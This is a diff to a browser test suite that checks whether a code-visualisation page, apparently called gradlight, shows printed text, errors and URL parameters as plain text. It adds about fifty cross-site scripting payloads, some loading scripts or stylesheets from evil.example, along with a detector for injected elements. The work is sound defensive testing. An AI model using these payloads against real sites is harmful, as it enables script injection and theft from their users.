@@ -9,31 +9,114 @@ from tests.browser.steps import open_page, type_program
 
 PAYLOADS = [
     "<img src=x onerror=alert(1)>",
+    "<img src=x onerror=&#97;lert(1)>",
+    "<IMG SRC=`javascript:alert(1)`>",
     "<script>alert(1)</script>",
+    "<script src=//evil.example/a.js></script>",
+    "<script type=module>import('data:text/javascript,alert(1)')</script>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
     "</code></pre><svg onload=alert(1)>",
-    "javascript:alert(1)",
-    "{{7*7}} ${7*7} %s",
+    "</title><script>alert(1)</script>",
+    "</textarea><img src=x onerror=alert(1)>",
+    "</style><script>alert(1)</script>",
+    "--><script>alert(1)</script><!--",
+    "]]><script>alert(1)</script>",
+    "<svg><script>alert(1)</script></svg>",
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
+    "<svg><use href=data:image/svg+xml,<svg id=x></svg>#x></svg>",
+    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
+    "<svg><style>*{display:none}</style></svg>",
+    "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></math>",
+    "<math href=javascript:alert(1)><mi>x</mi></math>",
+    "<maction actiontype=statusline#http://evil.example xlink:href=javascript:alert(1)>x</maction>",
+    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
+    "<iframe src=javascript:alert(1)></iframe>",
+    "<object data=data:text/html,<script>alert(1)</script>></object>",
+    "<embed src=data:text/html,<script>alert(1)</script>>",
+    "<base href=//evil.example/>",
+    "<link rel=stylesheet href=//evil.example/a.css>",
+    "<meta http-equiv=refresh content=0;url=//evil.example>",
+    "<form action=//evil.example><input autofocus onfocus=alert(1)></form>",
+    "<button popovertarget=x onclick=alert(1)>x</button>",
+    "<details open ontoggle=alert(1)>x</details>",
+    "<dialog open onclose=alert(1)>x</dialog>",
+    "<video><source onerror=alert(1)></video>",
+    "<body onload=alert(1)>",
+    "<input type=image src=x onerror=alert(1)>",
+    "<marquee onstart=alert(1)>x</marquee>",
+    "<template><img src=x onerror=alert(1)></template>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "<a href=javascript:alert(1)>x</a>",
     "<style>*{display:none}</style>",
-    "\u202e\u0000\u2028<b>bold</b>".replace("\u0000", ""),
+    "<style>@import '//evil.example/a.css';</style>",
+    "<div style=background:url(//evil.example/x)>x</div>",
+    "javascript:alert(1)",
+    "data:text/html,<script>alert(1)</script>",
+    "{{7*7}} ${7*7} %s {0.__class__}",
+    "{name|one|many} {count}",
+    "__proto__ constructor.prototype.polluted",
+    "' onmouseover='alert(1)",
+    '" autofocus onfocus="alert(1)',
+    "\u202e<b>bold</b>\u2066",
+    "&lt;img src=x onerror=alert(1)&gt;",
 ]
+FOREIGN = """() => [...document.querySelectorAll('*')].filter((element) =>
+  element.matches('script:not([src^="/static/"]), img:not([src="/static/icon.svg"], .cm-widgetBuffer), iframe, object, embed, base, form, video, audio, source, template, marquee, foreignObject, '
+    + 'maction, animate, use, style:not([nonce]), link:not([href^="/static/"]), meta[http-equiv], a[href^="javascript:"], [style*="evil"]')
+  || [...element.attributes].some((attribute) => /^on/i.test(attribute.name))).map((element) => element.outerHTML.slice(0, 120))"""
+EACH = 13
+
+
+def program(payloads: list[str]) -> str:
+    """The payloads as comments, keys, arguments, names of scopes, printed text and the message of an error."""
+    lines = ["import torch", "def f(text):", "    return torch.tensor(2.0, requires_grad=True)", "kept = {}"]
+    for number, payload in enumerate(payloads):
+        quoted = ascii(payload) if not payload.isprintable() else repr(payload)
+        lines += [f"kept[{quoted}] = f({quoted})  # {payload}", f"print({quoted})", f"v{number} = kept[{quoted}] * 3"]
+    total = " + ".join(f"v{number}" for number in range(len(payloads)))
+    message = " ".join(payloads[:3])
+    return "\n".join([*lines, f"total = {total}", "total.backward()", f"raise ValueError({message!r})", ""])
 
 
 @pytest.fixture
 def watched(page: Page) -> Page:
     page.on("dialog", lambda dialog: pytest.fail(f"a dialog opened: {dialog.message}"))
+    page.add_init_script(
+        "window.reports = []; addEventListener('securitypolicyviolation', (event) => window.reports.push(event.violatedDirective))"
+    )
     return page
 
 
-def test_printed_text_and_errors_are_shown_as_they_are(watched: Page) -> None:
+def test_there_are_enough_payloads() -> None:
+    assert len(set(PAYLOADS)) == len(PAYLOADS) >= 40
+
+
+@pytest.mark.parametrize("first", range(0, len(PAYLOADS), EACH))
+def test_printed_text_errors_and_source_are_shown_as_they_are(watched: Page, first: int) -> None:
+    payloads = PAYLOADS[first : first + EACH]
     open_page(watched)
-    before = watched.evaluate("() => document.querySelectorAll('script, img, style, iframe').length")
-    for payload in PAYLOADS:
-        watched.evaluate(
-            "(text) => gradlight.run(text)", f"import torch\nprint({payload!r})\nraise ValueError({payload!r})\n"
-        )
-        expect(watched.locator("[data-output]")).to_contain_text(payload[-12:])
-        assert watched.evaluate("() => document.querySelectorAll('script, img, style, iframe').length") == before
-        assert watched.locator("[data-output] b, [data-output] svg[onload]").count() == 0
+    watched.evaluate("(text) => gradlight.run(text)", program(payloads))
+    expect(watched.locator("[data-output]")).to_contain_text("ValueError")
+    shown = watched.locator("[data-output] .printed").text_content() or ""
+    assert [payload for payload in payloads if payload not in shown] == []
+    last = watched.evaluate("() => gradlight.state().last")
+    for share in (0.2, 0.5, 0.8, 1):
+        watched.evaluate("(seq) => gradlight.seek(seq)", round(last * share))
+        assert watched.evaluate(FOREIGN) == []
+    watched.locator("#stage .card").first.dispatch_event("click")
+    watched.evaluate("() => gradlight.set('view', 'table')")
+    assert watched.evaluate(FOREIGN) == []
+    assert watched.evaluate("() => window.reports") == []
+    assert watched.evaluate("() => ({}).polluted === undefined")
+
+
+def test_a_link_and_an_address_bring_text_only(watched: Page) -> None:
+    open_page(
+        watched, "/?lang=%22%3E%3Cscript%3Ealert(1)%3C/script%3E#v=1&p=%3Cimg%20src=x%20onerror=alert(1)%3E&s=%3Cb%3E"
+    )
+    assert watched.evaluate(FOREIGN) == []
+    assert watched.evaluate("() => window.reports") == []
 
 
 def test_a_name_in_another_script_is_drawn_as_text(watched: Page) -> None:
